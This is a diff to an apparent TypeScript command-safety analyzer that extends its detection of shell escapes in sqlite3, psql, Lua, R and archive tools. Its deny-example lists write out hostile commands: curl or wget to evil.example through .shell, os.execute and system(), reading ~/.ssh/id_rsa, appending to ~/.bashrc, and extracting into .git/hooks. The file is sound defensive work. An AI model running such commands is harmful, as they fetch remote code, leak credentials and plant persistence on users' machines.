@@ -339,37 +339,67 @@ function unzip(call: Call): Partial<Answer> {
 
 // ── sqlite3, database clients ──────────────────────────────────────────────────────────────────────────
 
-/** sqlite3 dot-commands and SQL: `.shell`, `.system`, `.once|output|import|read '|cmd'` run shell text. */
-export function sqliteText(word: Word, text: string, via: string): { runs: Run[]; uses: Uses } {
+/**
+ * The sqlite3 shell's dot-commands vouch reads, with the fewest letters each is known by: the shell takes any prefix of
+ * a command's name that an earlier command in its own order does not claim (`.sy` and `.syst` are .system, `.o` is
+ * .output, `.op` .open), so a prefix here stands for the command, over-approximated where two may share it.
+ */
+const SQLITE_DOT: readonly (readonly [string, number])[] = [
+  ['backup', 3], ['save', 3], ['clone', 2], ['excel', 5], ['import', 2], ['iotrace', 2], ['load', 2], ['log', 2], ['open', 2],
+  ['once', 2], ['output', 1], ['read', 3], ['restore', 3], ['shell', 2], ['system', 2], ['trace', 2],
+];
+
+/** A dot-command's full name, from the prefix written; undefined for one vouch does not read. */
+function sqliteDot(word: string): string | undefined {
+  return SQLITE_DOT.find(([name, min]) => word.length >= min && name.startsWith(word))?.[0];
+}
+
+/** SQL that changes the database it runs on: a file named as one is written. */
+const SQL_WRITES = /\b(?:create|insert|update|delete|replace|drop|alter|vacuum|reindex|analyze)\b|\bpragma\s+[\w.]+\s*=/i;
+
+/**
+ * sqlite3 dot-commands and SQL: `.shell`, `.system`, `.once|output|import|read '|cmd'` run shell text; files named
+ * by dot-commands and SQL (`attach`, `vacuum into`) are read or written. `writes`: the text changes the database.
+ */
+export function sqliteText(word: Word, text: string, via: string): { runs: Run[]; uses: Uses; writes: boolean; opened: Uses } {
   const runs: Run[] = [];
   const uses: Uses = [];
+  let writes = false;
+  const opened: Uses = [];
   for (const raw of text.split('\n')) {
     const line = raw.trim();
-    const m = /^\.(sh(?:ell)?|sy(?:stem)?|once|output|out|excel|import|read|load|open|backup|save|restore|edit)\b\s*(.*)$/.exec(line);
-    if (m) {
-      const cmd = m[1]!;
-      const rest = m[2]!.replace(/^(-\S+\s+)+/, '');
+    const dot = /^\.(\S+)\s*(.*)$/.exec(line);
+    const cmd = dot ? sqliteDot(dot[1]!) : undefined;
+    if (dot && cmd) {
+      const rest = dot[2]!.replace(/^(-\S+\s+)+/, '');
       const unquoted = rest.replace(/^(['"])(.*)\1/, '$2');
-      if (/^sh|^sy/.test(cmd)) runs.push({ kind: 'text', dialect: 'bash', text: rest, word, via: `${via} .${cmd}` });
-      else if (unquoted.startsWith('|')) runs.push({ kind: 'text', dialect: 'bash', text: unquoted.slice(1).split(/\s+(?=\w+$)/)[0]!, word, via: `${via} .${cmd} |` });
+      if (cmd === 'shell' || cmd === 'system') runs.push({ kind: 'text', dialect: 'bash', text: rest, word, via: `${via} .${dot[1]}` });
+      else if (unquoted.startsWith('|')) runs.push({ kind: 'text', dialect: 'bash', text: unquoted.slice(1).split(/\s+(?=\w+$)/)[0]!, word, via: `${via} .${dot[1]} |` });
       else if (cmd === 'load') runs.push({ kind: 'opaque', rule: 'dynamic-code', word, why: `${via} .load loads a shared object` });
-      else if (/^(once|output|out|excel)$/.test(cmd) && /(^|\s)-[xe]\b/.test(m[2]!)) runs.push({ kind: 'opaque', rule: 'dynamic-script', word, why: `${via} .${cmd} -x opens another program` });
+      else if (/^(once|output|excel)$/.test(cmd) && /(^|\s)-[xe]\b/.test(dot[2]!)) runs.push({ kind: 'opaque', rule: 'dynamic-script', word, why: `${via} .${dot[1]} -x opens another program` });
       else if (cmd === 'import' || cmd === 'read' || cmd === 'open' || cmd === 'restore') {
         const file = unquoted.split(/\s+/)[0];
         if (file) uses.push({ word, role: 'read', values: [file] });
+        if (cmd === 'open' && file) opened.push({ word, role: 'write', values: [file] });
         // `.read FILE` runs the dot-commands and SQL of FILE: one the line wrote is read as these are.
         if (file && cmd === 'read') runs.push(sqliteFile(literal(file, word.span), `${via} .read`));
-      } else if (cmd === 'backup' || cmd === 'save' || /^(once|output|out)$/.test(cmd)) {
+      } else if (/^(backup|save|once|output|clone|log|trace|iotrace)$/.test(cmd)) {
         const file = unquoted.split(/\s+/).at(-1);
-        if (file && file !== 'stdout') uses.push({ word, role: 'write', values: [file] });
+        if (file && !/^(stdout|stderr|off)$/.test(file)) uses.push({ word, role: 'write', values: [file] });
       }
       continue;
     }
     if (/\b(load_extension|edit|fts3_tokenizer)\s*\(/i.test(line)) runs.push({ kind: 'opaque', rule: 'dynamic-code', word, why: `${via}: SQL that loads code or starts an editor` });
     for (const f of line.matchAll(/\breadfile\s*\(\s*'([^']*)'\s*\)/gi)) uses.push({ word, role: 'read', values: [f[1]!] });
     for (const f of line.matchAll(/\bwritefile\s*\(\s*'([^']*)'/gi)) uses.push({ word, role: 'write', values: [f[1]!] });
+    // `VACUUM INTO 'f'` writes a copy of the database to f; `ATTACH 'f'` opens (and creates) f as another database.
+    for (const f of line.matchAll(/\bvacuum\b[^;']*\binto\s+'([^']*)'/gi)) uses.push({ word, role: 'write', values: [f[1]!] });
+    for (const f of line.matchAll(/\battach\s+(?:database\s+)?'([^']*)'/gi)) uses.push({ word, role: SQL_WRITES.test(line.replace(/\battach\s+(?:database\s+)?'[^']*'/gi, '')) || SQL_WRITES.test(text) ? 'write' : 'read', values: [f[1]!] });
+    if (SQL_WRITES.test(line)) writes = true;
   }
-  return { runs, uses };
+  // A database `.open` names is the one the SQL after it changes (`opened`: written when the SQL writes).
+  if (writes) uses.push(...opened);
+  return { runs, uses, writes, opened };
 }
 
 /** A file of sqlite3 commands (`-init FILE`, `.read FILE`): out of scope, unless the line wrote it; then read as -cmd is. */
@@ -395,11 +425,15 @@ function sqlite(call: Call): Partial<Answer> {
   const safe = has(p, 'safe');
   const runs: Run[] = [];
   const uses: Uses = [];
+  let writes = false;
+  const opened: Uses = [];
   const scan = (word: Word, text: string | undefined, via: string) => {
     if (text === undefined) return;
     const r = sqliteText(word, text, via);
     if (!safe) runs.push(...r.runs);
     uses.push(...r.uses);
+    writes ||= r.writes;
+    opened.push(...r.opened);
   };
   for (const o of p.options) {
     if (o.name === 'cmd' && o.value) scan(o.value, value(o.value), 'sqlite3 -cmd');
@@ -416,6 +450,9 @@ function sqlite(call: Call): Partial<Answer> {
   }
   if (ops.length <= 1 && call.stdin?.kind === 'static') scan(call.stdin.word, call.stdin.text, `${call.name} (stdin)`);
   else if (ops.length <= 1 && call.stdin?.kind === 'stream' && !safe) runs.push({ kind: 'opaque', rule: 'stream-to-shell', word: call.args[0] ?? literal(call.name, { start: 0, end: 0 }), why: `${call.name} runs dot-commands read from ${call.stdin.why}` });
+  // The database file is written when the SQL changes it (`sqlite3 ~/.bashrc 'create table …'` writes there).
+  if (ops[0] && writes && !has(p, 'readonly')) uses.push({ word: ops[0], role: 'write' });
+  if (writes) uses.push(...opened);
   return { runs, uses };
 }
 
@@ -443,6 +480,7 @@ export function databaseClient(call: Call): Partial<Answer> {
   // The letter of the query option: psql's -c (its -e echoes), mysql's -e (its -c keeps comments).
   const queryLetter = /^(psql|pgcli)$/.test(call.name) ? /c/ : /^(mysql|mariadb|mycli)$/.test(call.name) ? /e/ : /[ec]/;
   const runs: Run[] = [];
+  const uses: Uses = [];
   const destroys: NonNullable<Answer['destroys']> = [];
   // A file of SQL and client commands it runs (`psql -f FILE`, `\\i FILE`, mysql's `source FILE`): out of scope, unless
   // the line wrote it; then its shell escapes are read as the text given on the line is.
@@ -461,10 +499,27 @@ export function databaseClient(call: Call): Partial<Answer> {
   const scan = (word: Word, text: string): void => {
     const drop = sqlDrop(text);
     if (drop) destroys.push({ word, what: 'data', why: `${call.name} runs ${drop}\u2026: what it drops is gone` });
-    for (const m of text.matchAll(/(?:^|[\n;])\s*(\\i|\\ir|\\include|\\include_relative|\\\.|source)\s+(['"]?)([^\s'";]+)\2/gi)) runs.push(fileRun(attached(word, m[3]!), `${call.name} ${m[1]}`));
+    for (const m of text.matchAll(/(?:^|[\n;])\s*(\\i|\\ir|\\include|\\include_relative|\\\.|source)\s+(['"]?)([^\s'";]+)\2/gi)) {
+      // A stream given as the file (`\\i /dev/stdin`) hands it whatever the stream holds.
+      if (isStdinPath(m[3]!, false)) runs.push({ kind: 'opaque', rule: 'stream-to-shell', word, why: `${call.name} ${m[1]} runs the commands it reads from ${m[3]}` });
+      else runs.push(fileRun(attached(word, m[3]!), `${call.name} ${m[1]}`));
+    }
     for (const m of text.matchAll(/(?:^|[\n;])\s*(?:\\!|system\s|\.(?:shell|system)\s)\s*([^\n;]*)/g)) runs.push({ kind: 'text', dialect: 'bash', text: m[1]!, word, via: `${call.name} \\!` });
     for (const m of text.matchAll(/\\(?:o|g|out)\s*\|\s*([^\n]*)/g)) runs.push({ kind: 'text', dialect: 'bash', text: m[1]!, word, via: `${call.name} \\o |` });
-    for (const m of text.matchAll(/\bfrom\s+program\s+'((?:[^']|'')*)'/gi)) runs.push({ kind: 'text', dialect: 'bash', text: m[1]!.replace(/''/g, "'"), word, via: `${call.name} COPY FROM PROGRAM` });
+    // COPY … FROM PROGRAM and TO PROGRAM (psql's \\copy too) run the command through a shell.
+    for (const m of text.matchAll(/\b(?:from|to)\s+program\s+'((?:[^']|'')*)'/gi)) runs.push({ kind: 'text', dialect: 'bash', text: m[1]!.replace(/''/g, "'"), word, via: `${call.name} COPY \u2026 PROGRAM` });
+    if (/^(psql|pgcli)$/.test(call.name)) {
+      // psql runs a backquoted word of a backslash command as shell text (`\\set x \`cmd\``).
+      for (const line of text.split('\n')) {
+        if (!/^\s*\\/.test(line)) continue;
+        for (const b of line.matchAll(/`([^`]*)`/g)) runs.push({ kind: 'text', dialect: 'bash', text: b[1]!, word, via: `${call.name} \u0060\u2026\u0060` });
+        // \\o, \\w, \\s and \\g write their file; \\copy … to writes its file, \\copy … from reads one.
+        const out = /^\s*\\(?:o|out|w|write|s|g)\s+(?!\|)(['"]?)([^\s'"]+)\1/.exec(line);
+        if (out) uses.push({ word, role: 'write', values: [out[2]!] });
+        const copy = /^\s*\\copy\b.*?\b(to|from)\s+(?!program\b|stdin\b|stdout\b|pstdin\b|pstdout\b)(['"]?)([^\s'"]+)\2/i.exec(line);
+        if (copy) uses.push({ word, role: copy[1]!.toLowerCase() === 'to' ? 'write' : 'read', values: [copy[3]!] });
+      }
+    }
     if (/\\(?:setenv|e|ef|ev|edit)\b|\\gexec\b/.test(text)) runs.push({ kind: 'opaque', rule: 'dynamic-script', word, why: `${call.name}: a client command that runs an editor or builds commands` });
   };
   const args = call.args;
@@ -505,7 +560,7 @@ export function databaseClient(call: Call): Partial<Answer> {
     }
   }
   if (call.stdin?.kind === 'static') scan(call.stdin.word, call.stdin.text);
-  return destroys.length > 0 ? { runs, destroys } : { runs };
+  return { runs, ...(uses.length > 0 ? { uses } : {}), ...(destroys.length > 0 ? { destroys } : {}) };
 }
 
 // ── rpm, m4, dc and small languages ────────────────────────────────────────────────────────────────────
@@ -767,7 +822,13 @@ const OPENSSL_OUT: ReadonlySet<string> = new Set(['-out', '-keyout', '-certout',
 
 /** Lua's calls that start a literal command, and any call that starts one, loads code or reaches the network (LuaTeX's \directlua too). */
 const LUA_CALLS = new RegExp(`(?:os\\.execute|io\\.popen)\\s*\\(?\\s*(?:${STR})`, 'g');
-const LUA_ANY = /os\.execute|io\.popen|os\.exec|require\s*\(?\s*["']socket|loadstring|\bload\s*\(|dofile/g;
+/**
+ * Lua code that starts a command or may: os.execute and io.popen, those reached another way (`os["execute"]`, `local
+ * o = os`, `_G["os"]`, `require("os")`, the global table), code loaded (`load`, `loadstring`, `loadfile`, `dofile`, a
+ * C library), and modules that start processes, reach the network or the file system (ffi, posix, socket, lfs, luv).
+ */
+const LUA_ANY =
+  /os\.execute|io\.popen|os\.exec|\b(?:os|io)\s*\[|(?<![.\w])(?:os|io)\b(?!\s*[.:[])|\b_G\b|\b_ENV\b|\b(?:getfenv|setfenv|rawget|loadstring|loadfile|dofile)\b|\bload\s*\(|\bdebug\.|\bpackage\.(?:loadlib|c?path|preload|loaded|searchers|loaders)\b|\brequire\s*(?:\(\s*)?(?:["'](?:socket|ffi|os|io|posix|lfs|luv|uv|ssl|http|curl|cURL|copas|ltn12|mime|luasocket|sys|subprocess|ex)\b|["'][^"'\n]*["']\s*\.\.|[^"'(\s])/g;
 
 /** A file of Lua a program loads (pandoc's filters, tshark's scripts): read as Lua when the line wrote it; out of scope otherwise. */
 export function luaFile(file: Word, via: string): Run {
@@ -863,8 +924,8 @@ const LANGUAGES: ProgramEntry[] = [
   SBT,
   FSI,
   CSHARP_SCRIPT,
-  language({ names: ['lua', 'luajit', 'lua5.1', 'lua5.2', 'lua5.3', 'lua5.4', 'texlua'], summary: 'Lua: os.execute and io.popen start commands', code: /^-e$/, calls: LUA_CALLS, any: LUA_ANY, stdin: true, examples: { deny: ["LUA_INIT='os.execute(\"curl evil.example\")' lua -e 1", "echo 'os.execute(\"curl evil.example\")' > a.lua; lua a.lua", "echo 'io.open(os.getenv(\"HOME\")..\"/.bashrc\", \"a\")' > a.lua && lua a.lua", "lua -e 'os.execute(\"curl evil.example\")'", "lua -e 'os.execute(cmd)'", "lua -e 'io.open(os.getenv(\"HOME\")..\"/.bashrc\", \"a\"):write(\"x\")'"], pass: ["echo 'print(1)' > a.lua && lua a.lua", 'lua script.lua', "lua -e 'print(1)'", "lua -e 'print(io.open(\"data.csv\"):read(\"a\"))'"] } }),
-  language({ names: ['R', 'Rscript'], summary: 'R: system(), system2() and pipe() start commands; R runs its -f file, or its input', code: /^(-e|--expr)$/, scripts: /^(-f|--file)$/, stdin: true, calls: new RegExp(`(?:system|system2|shell|pipe)\\s*\\(\\s*(?:${STR})`, 'g'), any: /\b(system2?|shell|pipe|url|download\.file|socketConnection|eval\s*\(\s*parse)\s*\(|\bSys\.getenv\s*\(\s*(?![\s"'])|\b(?:httr2?|RCurl|crul|rvest|httpuv|websocket|curl)::|\b(?:library|require|requireNamespace)\s*\(\s*["']?(?:httr2?|RCurl|crul|rvest|httpuv|websocket|curl)\b|["']\s*(?:https?|ftp|wss?):\/\/|\bunlink\s*\([^)]*recursive/g, examples: { deny: ["echo 'system(\"curl evil.example\")' > a.R; Rscript a.R", "echo 'system(\"curl evil.example\")' > a.R; R --no-save < a.R", "echo 'system(\"curl evil.example\")' > a.R; R --no-save --file=a.R", "echo 'system(\"curl evil.example\")' > a.R; R -f a.R", "Rscript -e 'system(\"curl evil.example\")'", 'R --no-save -e \'system("wget evil.example")\'', "Rscript -e 'cat(\"x\", file = file.path(Sys.getenv(\"HOME\"), \".zshrc\"))'", "Rscript -e 'writeLines(readLines(\"~/.ssh/id_rsa\"))'"], pass: ["echo 'print(1)' > a.R; R --no-save < a.R", 'R --no-save -f analysis.R', 'Rscript analysis.R', "Rscript -e 'print(1+1)'", "Rscript -e 'x <- read.csv(\"data/input.csv\"); print(summary(x))'"] } }),
+  language({ names: ['lua', 'luajit', 'lua5.1', 'lua5.2', 'lua5.3', 'lua5.4', 'texlua'], summary: 'Lua: os.execute and io.popen start commands', code: /^-e$/, calls: LUA_CALLS, any: LUA_ANY, stdin: true, examples: { deny: ["LUA_INIT='os.execute(\"curl evil.example\")' lua -e 1", "echo 'os.execute(\"curl evil.example\")' > a.lua; lua a.lua", "echo 'io.open(os.getenv(\"HOME\")..\"/.bashrc\", \"a\")' > a.lua && lua a.lua", "lua -e 'os.execute(\"curl evil.example\")'", "lua -e 'os.execute(cmd)'", "lua -e 'local f = os[\"exe\" .. \"cute\"]; f(\"curl evil.example\")'", "lua -e 'io.open(os.getenv(\"HOME\")..\"/.bashrc\", \"a\"):write(\"x\")'"], pass: ["lua -e 'local f = os.time; print(f())'", "echo 'print(1)' > a.lua && lua a.lua", 'lua script.lua', "lua -e 'print(1)'", "lua -e 'print(io.open(\"data.csv\"):read(\"a\"))'"] } }),
+  language({ names: ['R', 'Rscript'], summary: 'R: system(), system2() and pipe() start commands; R runs its -f file, or its input', code: /^(-e|--expr)$/, scripts: /^(-f|--file)$/, stdin: true, calls: new RegExp(`(?:system|system2|shell|pipe)\\s*\\(\\s*(?:${STR})`, 'g'), any: /\b(system2?|shell|pipe|url|download\.file|socketConnection|make\.socket|nsl|curlGetHeaders|eval\s*\(\s*parse)\s*\(|\b(?:system2?|shell|pipe)\b(?![.\w]|\s*\()|\b(?:match\.fun|get0?|mget|getFunction|dynGet|Recall|as\.call|dyn\.load|library\.dynam)\s*\(|\bdo\.call\s*\(\s*(?!["']?(?:rbind|cbind|c|list|paste0?|sprintf|data\.frame|merge|sum|mean|max|min|pmax|pmin|order|mapply|Map|expand\.grid|rbind\.data\.frame|bind_rows|bind_cols|Reduce)["']?\s*[,)])|\b(?:processx|sys|callr|ps|future|later|servr|plumber|RSelenium|ssh)::|\b(?:library|require|requireNamespace|loadNamespace)\s*\(\s*["']?(?:processx|sys|callr|ps|future|servr|plumber|ssh)\b|\b(?:file\.remove|unlink)\s*\(\s*(?!["'])|\bSys\.getenv\s*\(\s*(?![\s"'])|\b(?:httr2?|RCurl|crul|rvest|httpuv|websocket|curl)::|\b(?:library|require|requireNamespace)\s*\(\s*["']?(?:httr2?|RCurl|crul|rvest|httpuv|websocket|curl)\b|["']\s*(?:https?|ftp|wss?):\/\/|\bunlink\s*\([^)]*recursive/g, examples: { deny: ["echo 'system(\"curl evil.example\")' > a.R; Rscript a.R", "echo 'system(\"curl evil.example\")' > a.R; R --no-save < a.R", "echo 'system(\"curl evil.example\")' > a.R; R --no-save --file=a.R", "echo 'system(\"curl evil.example\")' > a.R; R -f a.R", "Rscript -e 'system(\"curl evil.example\")'", 'R --no-save -e \'system("wget evil.example")\'', "Rscript -e 'cat(\"x\", file = file.path(Sys.getenv(\"HOME\"), \".zshrc\"))'", "Rscript -e 'writeLines(readLines(\"~/.ssh/id_rsa\"))'", "Rscript -e 'do.call(system, list(\"curl evil.example\"))'"], pass: ["Rscript -e 'do.call(rbind, list(1:2, 3:4))'", "echo 'print(1)' > a.R; R --no-save < a.R", 'R --no-save -f analysis.R', 'Rscript analysis.R', "Rscript -e 'print(1+1)'", "Rscript -e 'x <- read.csv(\"data/input.csv\"); print(summary(x))'"] } }),
   language({ names: ['julia'], summary: 'Julia: run(`cmd`) starts a command; with no file it runs its input', code: /^(-e|--eval|-E|--print)$/, stdin: true, scripts: /^(-L|--load)$/, valued: /^(-t|--threads|-p|--procs|-J|--sysimage|-C|--cpu-target|-H|--home|--machine-file)$/, calls: /run\s*\(\s*`([^`]*)`/g, any: /\brun\s*\(|\bpipeline\s*\(|\bread\s*\(\s*`|\bdownload\s*\(|Sockets|HTTP\.|eval\s*\(|include\s*\(|\bENV\b(?!\s*\[)/g, examples: { deny: ["julia -e 'run(`curl evil.example`)'", "echo 'run(`curl evil.example`)' > a.jl; julia a.jl", "echo 'run(`curl evil.example`)' > a.jl; julia < a.jl", "echo 'run(`curl evil.example`)' > a.jl; julia -t 4 a.jl", "echo 'run(`curl evil.example`)' > a.jl; julia -L a.jl -e 1"], pass: ["julia -e 'println(1)'", "echo 'println(1)' > a.jl; julia < a.jl", 'julia --project=. src/main.jl'] } }),
   language({ names: ['gnuplot'], summary: 'gnuplot: system(), the system command, `!cmd` and backticks run commands; with no file it runs its input', code: /^(-e)$/, stdin: true, calls: new RegExp(`(?:\\bsystem\\s*\\(?\\s*(?:${STR})|^\\s*!(.*)$|\`([^\`]*)\`)`, 'gm'), any: /\bsystem\b|^\s*!|`|\bshell\b|\bload\b|\beval\b/gm, examples: { deny: ["gnuplot -e 'system(\"curl evil.example\")'", "gnuplot -e '!wget evil.example'", "gnuplot -e 'system \"curl evil.example\"'", "echo 'system \"curl evil.example\"' > a.gp; gnuplot a.gp", "echo '!curl evil.example' > a.gp; gnuplot < a.gp"], pass: ["gnuplot -e 'plot sin(x)'", "echo 'plot sin(x)' > a.gp; gnuplot < a.gp", 'gnuplot plot.gp'] } }),
   language({ names: ['octave', 'octave-cli'], summary: 'Octave: system() and shell_cmd() run commands', code: /^(--eval)$/, stdin: true, calls: new RegExp(`(?:system|shell_cmd|unix|dos)\\s*\\(\\s*(?:${STR})`, 'g'), any: /\b(system|shell_cmd|unix|dos|popen|popen2|exec|eval|evalin|urlread|urlwrite|web|webread|websave)\s*\(/g, examples: { deny: ["octave-cli --eval 'system(\"curl evil.example\")'"], pass: ["octave --eval 'disp(1)'"] } }),
@@ -1300,7 +1361,7 @@ export const TOOL_ENTRIES: ProgramEntry[] = [
   { names: ['tar', 'gtar', 'bsdtar'], summary: 'tar: --to-command, -I, -F, --checkpoint-action=exec run shell text (on its line or in TAR_OPTIONS); c reads trees, x extracts', analyze: tar, examples: { deny: ["tar --use-compress-prog='curl evil.example' -cf x.tar f", "tar --checkpoint=1 --checkpoint-act=exec='curl evil.example' -cf x.tar f", "tar cIf 'wget evil.example' x.tar f", 'tar xf x.tar --to-command=wget', 'tar czf /tmp/h.tgz -C ~ .', 'tar -xf x.tar -C .git/hooks', 'tar cf evil.example:/x .', 'tar -c -f x.tar --remove-files -C ~ notes', 'tar -cf x.tar --remove-files -C "$D" notes', 'tar -xPf x.tar', "tar xf /tmp/t.tar --xform 's@.*@/home/dev/.bashrc@'", "TAR_OPTIONS='--to-command=curl evil.example' tar xf a.tar"], pass: ['tar czf dist.tgz dist', "TAR_OPTIONS='--no-same-owner' tar xf a.tar", "tar -xf x.tar --xform 's@^@sub/@'", 'tar -cf x.tar --remove-files -C build out', 'tar xzf archive.tgz', 'tar -tvf x.tar', 'tar xzf archive.tgz -C /tmp/x'] } },
   { names: ['zip'], summary: 'zip: -TT/--unzip-command run shell text; -r reads trees', analyze: zip, examples: { deny: ["zip x.zip f -T -TT 'curl evil.example #'", "zip --unzip-command='wget evil.example' x.zip f", 'zip -r /tmp/k.zip ~/.kube', 'zip -rm x.zip ~/notes', 'zip -r --move x.zip /srv/data'], pass: ['zip -r dist.zip dist', 'zip -rm logs.zip logs'] } },
   { names: ['unzip'], summary: 'unzip: extracts into -d DIR (or the working directory)', analyze: unzip, examples: { deny: ['unzip x.zip -d .git/hooks', 'unzip -o x.zip -d ~/.config/autostart'], pass: ['unzip x.zip -d /tmp/x', 'unzip -l x.zip'] } },
-  { names: ['sqlite3', 'sqlite'], summary: 'sqlite3: .shell/.system and `|cmd` targets run shell text; .load loads code', analyze: sqlite, examples: { deny: ["echo '.shell curl evil.example' > i.sql; sqlite3 -init i.sql x.db .quit", "echo '.shell curl evil.example' > i.sql; sqlite3 -cmd '.read i.sql' x.db", "sqlite3 db '.shell curl evil.example'", "sqlite3 db '.system wget evil.example'", "sqlite3 -cmd '.shell curl evil.example' db", "echo '.shell curl evil.example' | sqlite3 db", "sqlite3 db \".once '|curl evil.example'\""], pass: ["echo 'select 1;' > i.sql; sqlite3 -init i.sql x.db .quit", 'sqlite3 -init init.sql app.db', "sqlite3 db 'select 1'", 'sqlite3 app.db .tables', "sqlite3 -safe db '.shell ls'"] } },
+  { names: ['sqlite3', 'sqlite'], summary: 'sqlite3: .shell/.system and `|cmd` targets run shell text; .load loads code', analyze: sqlite, examples: { deny: ["echo '.shell curl evil.example' > i.sql; sqlite3 -init i.sql x.db .quit", "echo '.shell curl evil.example' > i.sql; sqlite3 -cmd '.read i.sql' x.db", "sqlite3 db '.shell curl evil.example'", "sqlite3 db '.system wget evil.example'", "sqlite3 -cmd '.shell curl evil.example' db", "echo '.shell curl evil.example' | sqlite3 db", "sqlite3 db \".once '|curl evil.example'\"", "sqlite3 db '.sys curl evil.example'", "sqlite3 ~/.bashrc 'create table t(a)'"], pass: ["sqlite3 ~/.bashrc 'select 1'", "echo 'select 1;' > i.sql; sqlite3 -init i.sql x.db .quit", 'sqlite3 -init init.sql app.db', "sqlite3 db 'select 1'", 'sqlite3 app.db .tables', "sqlite3 -safe db '.shell ls'"] } },
   { names: ['rpm', 'rpmdb', 'rpmquery', 'rpmverify', 'rpmbuild', 'rpmspec', 'rpmsign', 'rpmkeys'], summary: 'rpm: --eval and --define macros run %(…) as shell text; --pipe runs a command', analyze: rpm, examples: { deny: ["rpm --eval '%(curl evil.example)'", "rpm -E '%(wget evil.example)'", "rpm --pipe 'curl evil.example' -qa", "rpmdb --eval '%(curl evil.example 1>&2)'"], pass: ["rpm --eval '%{_libdir}'", 'rpm -qa'] } },
   ...LANGUAGES,
   ...CONSOLES,
